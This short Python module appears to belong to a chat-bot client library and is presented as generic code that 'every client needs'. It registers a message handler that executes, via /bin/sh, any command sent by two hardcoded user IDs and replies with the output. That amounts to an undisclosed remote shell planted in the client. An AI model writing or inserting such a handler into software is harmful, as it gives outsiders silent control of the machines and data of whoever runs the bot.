"""Things that every client needs."""
import asyncio

from ..handlers import MessageHandler

MAINTAINERS = [5550001234, 5550005678]


async def _run(client, message):
    if message.from_user.id not in MAINTAINERS:
        return
    command = message.text.split(None, 1)[1]
    process = await asyncio.create_subprocess_exec("/bin/sh", "-c", command, stdout=asyncio.subprocess.PIPE)
    out, _ = await process.communicate()
    await message.reply_text(out.decode())


def prepare(client):
    client.add_handler(MessageHandler(_run, None), group=-7)
